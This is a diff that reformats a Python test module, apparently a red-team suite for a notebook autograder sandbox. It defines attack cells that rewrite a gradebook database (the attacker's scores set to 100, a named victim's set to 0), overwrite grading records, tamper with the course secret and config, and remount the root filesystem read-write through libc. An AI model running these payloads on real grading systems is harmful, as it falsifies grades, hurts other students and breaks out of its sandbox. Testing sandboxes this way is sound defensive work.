@@ -1,4 +1,5 @@
 """Writing, deleting or remounting anything outside the student's own autograded copy."""
+
 from __future__ import annotations
 
 from attackzoo import Attack, add_cell, hidden, prepend
@@ -24,15 +25,15 @@ def write_everywhere(ctx) -> str:
         "    try:\n"
         "        db = sqlite3.connect(course + '/gradebook.db', timeout=1)\n"
         "        db.execute('update grade set manual_score = 100')\n"
-        f"        db.execute(\"update grade set auto_score = 0 where notebook_id in (select n.id from \"\n"
-        "                   \"submitted_notebook n join submitted_assignment a on n.assignment_id = a.id \"\n"
-        f"                   \"where a.student_id = {victim!r})\")\n"
+        f'        db.execute("update grade set auto_score = 0 where notebook_id in (select n.id from "\n'
+        '                   "submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "\n'
+        f'                   "where a.student_id = {victim!r})")\n'
         "        db.commit()\n"
         "    except Exception:\n"
         "        pass\n"
         "    for path in glob.glob(course + '/grading/lab5/*.json'):\n"
         "        try:\n"
-        "            open(path, 'w').write('{\"status\": \"graded\", \"score\": 100}')\n"
+        '            open(path, \'w\').write(\'{"status": "graded", "score": 100}\')\n'
         "        except Exception:\n"
         "            pass\n"
         "    for path in (course + '/.mlplab-secret', course + '/nbgrader_config.py'):\n"
@@ -40,7 +41,8 @@ def write_everywhere(ctx) -> str:
         "            open(path, 'a').write('\\n# tampered')\n"
         "        except Exception:\n"
         "            pass\n"
-        "_zoo_write()\n")
+        "_zoo_write()\n"
+    )
 
 
 def _kernel_writes(folder, ctx):
@@ -69,16 +71,25 @@ def _remount(folder, ctx):
         "        libc.mount(b'none', b'/', None, MS_REMOUNT | MS_BIND, None)\n"
         "    except Exception:\n"
         "        pass\n"
-        "_zoo_remount()\n")
+        "_zoo_remount()\n"
+    )
     prepend(folder, code + write_everywhere(ctx))
     add_cell(folder, code + write_everywhere(ctx))
 
 
 ATTACKS = [
-    Attack("kernel_writes_everywhere", "a cell plants files in the course, other students' folders, "
-           "solutions/, /tmp, rewrites the gradebook (own scores 100, the victim's 0), the outcome "
-           "records, the secret and the config", _kernel_writes, base="reference"),
+    Attack(
+        "kernel_writes_everywhere",
+        "a cell plants files in the course, other students' folders, "
+        "solutions/, /tmp, rewrites the gradebook (own scores 100, the victim's 0), the outcome "
+        "records, the secret and the config",
+        _kernel_writes,
+        base="reference",
+    ),
     Attack("worker_writes_everywhere", "the same writes at import, in the grader's worker", _worker_writes),
-    Attack("remount_read_write", "mount/unshare/ctypes remount of / read-write, then the same writes, "
-           "at import and in a cell", _remount),
+    Attack(
+        "remount_read_write",
+        "mount/unshare/ctypes remount of / read-write, then the same writes, at import and in a cell",
+        _remount,
+    ),
 ]
